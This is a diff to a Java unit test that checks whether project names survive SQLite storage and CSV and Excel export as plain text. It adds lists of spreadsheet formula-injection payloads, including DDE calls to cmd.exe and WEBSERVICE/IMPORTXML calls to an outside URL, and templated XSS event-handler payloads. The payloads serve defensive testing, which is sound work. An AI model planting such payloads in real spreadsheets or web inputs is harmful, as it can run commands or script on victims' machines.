@@ -3,6 +3,7 @@ package dev.taizhang.commands;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import dev.taizhang.Goal;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -13,6 +14,7 @@ import java.sql.SQLException;
 import java.sql.Statement;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.stream.Stream;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVParser;
 import org.dhatim.fastexcel.reader.Cell;
@@ -27,7 +29,7 @@ import org.junit.jupiter.api.io.TempDir;
 
 /** Names that would be script, markup, formula, SQL or a change of direction come out as they came in, and are nothing but names. */
 class InjectionTest {
-    static final List<String> NAMES = List.of(
+    private static final List<String> WRITTEN = List.of(
             "<script>window.stolen=1</script>",
             "</script><img src=x onerror=window.stolen=1>",
             "\" onmouseover=\"window.stolen=1",
@@ -45,6 +47,35 @@ class InjectionTest {
             "\u202E倒 \u2067مشروع الطريق",
             "W".repeat(300),
             "项目名称".repeat(75));
+
+    /** Each beginning with each ending is a formula to some program. */
+    private static final List<String> BEGINNINGS = List.of("=", "+", "-", "@", "＝", "＋", "－", "＠");
+
+    private static final List<String> ENDINGS = List.of(
+            "cmd|' /C calc'!A0",
+            "IMPORTXML(\"http://x\";\"//a\")",
+            "WEBSERVICE(\"http://x/\"&A1)",
+            "SUM(1+1)*cmd|'/C calc'!A0",
+            "DDE(\"cmd\";\"/C calc\";\"1\")",
+            "1+MSEXCEL|'\\..\\cmd.exe /c calc'!A0",
+            "IF(1,EXEC(\"calc\"),0)");
+
+    private static final List<String> ELEMENTS =
+            List.of("img src=x", "svg", "body", "iframe", "input", "video", "details open", "object", "math", "a");
+
+    private static final List<String> SCRIPTS = List.of(
+            "<%s onerror=window.stolen=1>",
+            "\"><%s onload=window.stolen=1>",
+            "'><%s onmouseover=window.stolen=1 autofocus>",
+            "<%s href=\"javascript:window.stolen=1\">",
+            "</title></script><%s tabindex=0 onfocus=window.stolen=1>");
+
+    static final List<String> NAMES = Stream.of(
+                    WRITTEN.stream(),
+                    BEGINNINGS.stream().flatMap(begin -> ENDINGS.stream().map(begin::concat)),
+                    ELEMENTS.stream().flatMap(element -> SCRIPTS.stream().map(form -> form.formatted(element))))
+            .flatMap(names -> names)
+            .toList();
     private static final String RIGHT_TO_LEFT = "东\u202E区";
 
     @TempDir
@@ -97,7 +128,7 @@ class InjectionTest {
         Path exports = office.warehouse().resolve("exports");
         assertThat(namesInCsv(exports))
                 .containsExactlyInAnyOrderElementsOf(NAMES.stream()
-                        .map(name -> "=+@-".indexOf(name.charAt(0)) < 0 ? name : "'" + name)
+                        .map(name -> "=+@-＝＋－＠".indexOf(name.charAt(0)) < 0 ? name : "'" + name)
                         .toList());
         assertThat(names("jdbc:sqlite:" + exports.resolve("latest/taizhang.sqlite"), "project_watch"))
                 .containsExactlyInAnyOrderElementsOf(NAMES);
@@ -121,6 +152,9 @@ class InjectionTest {
             assertThat(cells).allMatch(cell -> cell.getFormula() == null && cell.getType() == CellType.STRING);
         }
         csvExportsHoldTheTextsAsSentIfToldSo();
+        try (Goal.Count goal = Goal.HOSTILE_NAMES.begin()) {
+            goal.add(NAMES.size());
+        }
     }
 
     private static void csvExportsHoldTheTextsAsSentIfToldSo() throws IOException {
